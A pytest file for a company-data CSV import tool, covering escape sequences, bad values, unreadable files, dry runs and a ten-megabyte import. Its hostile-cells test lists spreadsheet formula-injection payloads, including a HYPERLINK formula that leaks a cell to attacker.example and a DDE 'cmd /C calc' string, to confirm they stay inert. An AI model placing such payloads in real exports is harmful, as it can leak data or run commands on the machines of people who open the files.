"""Import of hostile and messy cells, of files that cannot be imported (nothing is written),
and of a ten-megabyte export as one change."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from store.service import Workbench
from tests.store.conftest import Fingerprint, assert_one_line_error
from tests.store.import_helpers import (
    CONTROL,
    IMPORTS,
    all_strings,
    companies,
    counts,
    report_lines,
    row_line,
    run_import,
    seeded,
    tables,
    write_csv,
)

# Hostile and messy cells ------------------------------------------------------------------


def test_escape_sequences_and_control_characters_are_stripped(cli, db_path: Path) -> None:
    fixture = IMPORTS / "hostile_cells.csv"
    assert b"\x1b[31m" in fixture.read_bytes() and b"\x1b]0;" in fixture.read_bytes()
    result = run_import(cli, db_path, fixture)
    assert result.code == 0, result.err
    assert counts(result) == (8, 0, 0, 0)
    assert not CONTROL.search(result.out) and not CONTROL.search(result.err)
    stored = companies(db_path)
    for record in stored.values():
        for text in all_strings(record):
            assert not CONTROL.search(text), (record["name"], text)
    assert stored["Redshift Thermal"]["one_liner"] == "Liquid cooling for racks"
    assert stored["Bellwether Grid"]["one_liner"] == "Grid interconnect  studies for sites."
    assert stored["Clangor Compute"]["one_liner"] == "Bell  and carriage return"
    # Text that is merely odd is kept exactly: formulas and markup are only text.
    for name in (
        '=HYPERLINK("http://attacker.example/?leak="&A1,"Open deck")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "[red]Crimson[/red] Storage",
    ):
        assert name in stored, name
    assert stored["[red]Crimson[/red] Storage"]["one_liner"] == "[@click=app.quit]quit"


def test_rows_without_a_name_are_skipped_with_row_and_reason(cli, db_path: Path) -> None:
    result = run_import(cli, db_path, IMPORTS / "messy_rows.csv")
    assert result.code == 0, result.err
    assert counts(result) == (4, 0, 0, 1)
    assert row_line(result, 3) == "row 3: skipped (no name) (no company name)"
    assert not any(
        line.startswith("row 4:") for line in report_lines(result)
    )  # a blank line is no row
    assert "https://nameless.example" not in json.dumps(tables(db_path)["companies"])


def test_values_that_are_not_what_they_claim_are_left_empty_and_kept(cli, db_path: Path) -> None:
    result = run_import(cli, db_path, IMPORTS / "messy_rows.csv")
    stored = companies(db_path)
    basin = stored["Quiet Basin Power"]
    assert basin["founded_year"] is None
    assert basin["source_data"]["founded"] == "next spring"
    assert "founded 'next spring' is not a date, left empty" in row_line(result, 5)
    lattice = stored["Lattice Yard"]
    assert lattice["website"] == "" and lattice["source_data"]["website"] == "not a web address"
    assert "website 'not a web address' is not a web address, left empty" in row_line(result, 6)
    gantry = stored["Gantry Compute"]
    assert gantry["founded_year"] is None
    assert "founded 2999 is in the future, left empty" in row_line(result, 7)
    assert stored["Ferrule Systems"]["founded_year"] == 2020


def test_header_only_file_imports_nothing(cli, db_path: Path) -> None:
    seeded(db_path)
    before = Fingerprint.of(db_path)
    result = run_import(cli, db_path, IMPORTS / "header_only.csv")
    assert result.code == 0, result.err
    assert result.out == "0 added, 0 updated, 0 duplicates, 0 skipped.\n"
    assert Fingerprint.of(db_path) == before


# Files that cannot be imported ------------------------------------------------------------


def _giant_cell_csv(path: Path) -> Path:
    """Fifty good rows, then a cell beyond the CSV reader's limit: the file fails at row 52."""
    rows = [["name", "website"]] + [[f"Good Row {n}", f"good{n}.example"] for n in range(50)]
    rows.append(["Too Big", "x" * 200_000])
    return write_csv(path, rows)


BAD_FILES = [
    ("empty.csv", "is empty: there is nothing to import"),
    ("binary_logo.png", "is not a text file (it looks binary)"),
    ("not_ours.json", "is JSON but not a moatscope export"),
    ("broken.json", "is not valid JSON"),
    ("meeting_notes.txt", "has no column for the company name"),
    ("missing.csv", "There is no file"),
    ("a-folder", "Cannot read"),
    ("giant-cell.csv", "is not valid CSV"),
]


def _bad_file(name: str, tmp_path: Path) -> Path:
    if name == "missing.csv":
        return tmp_path / "missing.csv"
    if name == "a-folder":
        (tmp_path / "a-folder").mkdir(exist_ok=True)
        return tmp_path / "a-folder"
    if name == "giant-cell.csv":
        return _giant_cell_csv(tmp_path / "giant-cell.csv")
    return IMPORTS / name


@pytest.mark.parametrize(("name", "message"), BAD_FILES)
def test_bad_file_leaves_the_database_untouched(
    cli, db_path: Path, tmp_path: Path, name: str, message: str
) -> None:
    seeded(db_path)
    before = Fingerprint.of(db_path)
    result = run_import(cli, db_path, _bad_file(name, tmp_path))
    assert_one_line_error(result, message)
    assert Fingerprint.of(db_path) == before
    dry = run_import(cli, db_path, _bad_file(name, tmp_path), "--dry-run")
    assert_one_line_error(dry, message)
    assert Fingerprint.of(db_path) == before


@pytest.mark.parametrize(("name", "message"), BAD_FILES)
def test_bad_file_creates_no_database(
    cli, db_path: Path, tmp_path: Path, name: str, message: str
) -> None:
    result = run_import(cli, db_path, _bad_file(name, tmp_path))
    assert_one_line_error(result, message)
    assert not db_path.exists()


def test_giant_cell_names_the_row(cli, db_path: Path, tmp_path: Path) -> None:
    result = run_import(cli, db_path, _giant_cell_csv(tmp_path / "giant.csv"))
    assert_one_line_error(result, "Row 52 is not valid CSV", "nothing was imported")


def test_dry_run_reports_and_writes_nothing(cli, db_path: Path) -> None:
    fixture = IMPORTS / "crunchbase_organizations.csv"
    fresh = run_import(cli, db_path, fixture, "--dry-run")
    assert fresh.code == 0, fresh.err
    assert counts(fresh) == (6, 0, 0, 0)
    assert fresh.out.splitlines()[-1] == "Dry run: nothing was written."
    assert not db_path.exists()
    seeded(db_path)
    before = Fingerprint.of(db_path)
    result = run_import(cli, db_path, fixture, "--dry-run")
    assert result.code == 0, result.err
    assert counts(result) == (6, 0, 0, 0)
    assert row_line(result, 7).endswith("→ unsorted (no layer keyword matched; left unsorted)")
    assert Fingerprint.of(db_path) == before


# Ten megabytes ----------------------------------------------------------------------------


def _big_export(path: Path, rows: int) -> Path:
    words = (
        "optical interconnect inference serving storage pipeline grid cooling accelerator "
        "kubernetes vector database switch chiplet energy cluster labeling throughput latency"
    ).split()
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(
        [
            "Organization Name",
            "Organization Name URL",
            "Website",
            "Full Description",
            "Industries",
            "Headquarters Location",
            "Founded Date",
            "Last Funding Type",
            "Total Funding Amount",
        ]
    )
    for n in range(rows):
        text = " ".join(words[(n * 7 + k * 3) % len(words)] for k in range(110))
        writer.writerow(
            [
                f"Bulk Venture {n:05d}",
                f"https://www.crunchbase.com/organization/bulk-venture-{n}",
                f"https://bulk-venture-{n}.example.com",
                f"Bulk Venture {n} works on {text}"[:880],
                "Artificial Intelligence (AI), Software",
                "Austin, Texas, United States",
                f"{1990 + n % 35}-06-01",
                "Seed",
                f"${n * 1000:,}",
            ]
        )
    path.write_bytes(b"\xef\xbb\xbf" + buffer.getvalue().encode())
    return path


def test_ten_megabyte_export_lands_as_one_change(cli, db_path: Path, tmp_path: Path) -> None:
    # How long this takes is measured by `make bench` (bench_transfer), never asserted here.
    big = _big_export(tmp_path / "big.csv", 10_000)
    assert 9_500_000 < big.stat().st_size < 11_500_000
    result = run_import(cli, db_path, big)
    assert result.code == 0, result.err
    assert counts(result) == (10_000, 0, 0, 0)
    stored = tables(db_path)
    assert len(stored["companies"]) == 10_000 and len(stored["changes"]) == 1
    again = run_import(cli, db_path, big)
    assert counts(again) == (0, 0, 10_000, 0)
    bench = Workbench.open(db_path, author="tester")
    try:
        assert bench.undo() is not None
        assert bench.rows() == []
    finally:
        bench.close()
